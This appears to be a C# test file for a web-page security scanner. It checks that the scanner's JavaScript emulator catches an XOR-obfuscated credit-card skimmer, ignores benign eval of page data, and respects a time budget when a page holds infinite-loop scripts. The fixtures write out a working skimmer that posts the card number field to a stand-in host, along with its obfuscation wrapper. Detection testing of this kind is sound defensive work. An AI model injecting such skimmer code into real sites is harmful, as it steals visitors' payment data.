using Scanner.Core.Analyzers;
using Scanner.Core.Model;
using Scanner.Core.Rules;

namespace Scanner.Core.Tests.Analyzers.Emulation;

/// <summary>Emulation inside the script rules: what it adds to a verdict, and what it leaves alone.</summary>
public sealed class RunTimeLayerTests
{
    private static readonly Lazy<RuleSet> Rules = new(() =>
        RuleSetLoader.Load(new RuleSources { RulePaths = [RuleSetLoader.DefaultRulesDirectory] }));

    private static IReadOnlyList<Finding> Analyze(string body)
    {
        var html = $"<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>政务公开</title></head><body><p>市政府召开常务会议</p>{body}</body></html>";
        var page = Scanner.Core.Loading.StaticSnapshotBuilder.Build(html, "https://www.yongzhou.gov.cn/zwgk/1.html");
        return new PageAnalysis(PageAnalysis.DefaultAnalyzers, Rules.Value).Analyze(page).ToList();
    }

    // A skimmer whose every string is XOR-ed with a key and read back through an index function: no field name, no
    // host, no XMLHttpRequest is in the text, and no layer the static decoder knows opens it.
    private static string XorEncoded(string payload, int key)
    {
        var codes = string.Join(",", payload.Select(c => (c ^ key).ToString()));
        return $"<script>(function(k){{var d=[{codes}],s='';for(var i=0;i<d.length;i++)s+=String.fromCharCode(d[i]^k);window['ev'+'al'](s);}})({key});</script>";
    }

    private const string Skimmer =
        "document.addEventListener('DOMContentLoaded',function(){var f=document.querySelector('#payment_cc_number');"
        + "var x=new XMLHttpRequest();x.open('POST','https://cdn-stats.example.top/collect');x.send('c='+f.value);});";

    [Fact]
    public void A_skimmer_that_exists_only_at_run_time_is_found_by_running_it()
    {
        var findings = Analyze(XorEncoded(Skimmer, 23));
        var skimmer = Assert.Single(findings, f => f.RuleId == ScriptInjectionAnalyzer.SkimmerRule);
        Assert.Equal(Severity.Critical, skimmer.Severity);
        Assert.Contains(skimmer.Reasons, r => r.Contains("run in the emulator", StringComparison.Ordinal)
            && r.Contains("cdn-stats.example.top", StringComparison.Ordinal));
        Assert.Contains("cdn-stats.example.top", skimmer.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public void Old_pages_that_eval_their_own_data_are_left_alone()
    {
        // eval of a computed string sends the script to the emulator; what it builds is data, so nothing is added.
        var findings = Analyze("""
            <script>var raw = '{"news":[{"id":1,"title":"会议"},{"id":2,"title":"通知"}]}';
            var data = eval('(' + raw + ')'); var list = new Function('return ' + raw)();
            document.getElementById('count').innerHTML = data.news.length;</script>
            """);
        Assert.DoesNotContain(findings, f => f.RuleId.StartsWith("script.", StringComparison.Ordinal) && f.Severity >= Severity.Medium);
        Assert.DoesNotContain(findings, f => f.Reasons.Any(r => r.Contains("emulator", StringComparison.Ordinal)));
    }

    [Fact]
    public void A_page_of_endless_obfuscated_scripts_is_analysed_within_its_budget()
    {
        var hostile = string.Concat(Enumerable.Range(0, 30).Select(i => $"<script>window['ev'+'al']('for(;;){{}}//{i}');</script>"));
        var skimmer = XorEncoded(Skimmer, 41);
        var clock = System.Diagnostics.Stopwatch.StartNew();
        var findings = Analyze(hostile + skimmer);
        clock.Stop();
        // The page's emulation allowance, plus one script's overrun and a wide margin for a loaded machine.
        Assert.True(clock.Elapsed < Scanner.Core.Analyzers.Emulation.EmulationBudget.PerPage + TimeSpan.FromSeconds(20), $"took {clock.Elapsed}");
        // The skimmer came after the budget was spent: not run, so not found at run time (the budget is real).
        Assert.DoesNotContain(findings, f => f.Reasons.Any(r => r.Contains("cdn-stats.example.top", StringComparison.Ordinal)));
    }
}
